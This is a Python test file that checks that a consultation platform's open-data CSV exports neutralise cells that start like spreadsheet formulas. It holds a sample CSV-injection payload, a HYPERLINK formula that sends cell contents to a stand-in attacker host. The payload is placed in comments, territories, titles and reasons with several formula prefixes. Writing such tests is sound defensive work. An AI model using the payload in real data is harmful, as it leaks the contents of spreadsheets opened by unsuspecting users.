"""The open data: every CSV cell a spreadsheet would run as a formula comes out neutralised."""

import csv
import io
import zipfile

from consult.consultation.models import PositionValue
from consult.consultation.services import set_position
from consult.report.publishing.snapshot.services import publish_report
from consult.spreadsheet import FORMULA_START, csv_bytes, guard_formula, unguard_formula
from tests.factories import make_process, make_theme, make_user, treat
from tests.report_helpers import consulted_sections, contribute

ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"clic")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def _cells(archive):
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
                yield from ((name, cell) for cell in row)


def test_comments_territories_titles_and_reasons_starting_like_a_formula_are_neutralised(report_dir):
    organizer = make_user()
    process = make_process(organizer)
    (section,) = consulted_sections(organizer, process, ["=" + ATTACK])
    theme = make_theme(organizer, process, "+" + ATTACK)
    for prefix in PREFIXES:
        author = make_user(territory=prefix + ATTACK)
        contribution = contribute(section, "=" + ATTACK if prefix in "\t\r" else prefix + ATTACK, author=author)
        treat(organizer, contribution, "rejected", theme=theme, reason="@" + ATTACK)
        set_position(author, section, PositionValue.AGREE)
    revision = publish_report(organizer, process, interim=True)

    archive = zipfile.ZipFile(report_dir / revision.opendata_path)
    cells = list(_cells(archive))
    dangerous = [(name, cell) for name, cell in cells if cell.startswith(tuple(FORMULA_START))]
    assert dangerous == []
    guarded = {name for name, cell in cells if cell.startswith("'") and ATTACK in cell}
    assert guarded == {"contributions.csv", "sections.csv", "positions.csv", "contributions_par_territoire.csv"}
    territories = {cell for name, cell in cells if name == "contributions.csv" and cell.endswith(ATTACK)}
    assert {"'" + prefix + ATTACK for prefix in PREFIXES} <= territories


def test_the_writer_keeps_numbers_and_phone_numbers_and_reads_back_what_it_wrote():
    assert guard_formula("+33 4 75 00 00 00") == "+33 4 75 00 00 00"
    assert guard_formula(-3) == -3
    for prefix in PREFIXES:
        assert unguard_formula(guard_formula(prefix + ATTACK)) == prefix + ATTACK
    data = csv_bytes([["=1+1", 2, None]], header=["a", "b", "c"])
    assert data == "\ufeffa;b;c\r\n'=1+1;2;\r\n".encode()
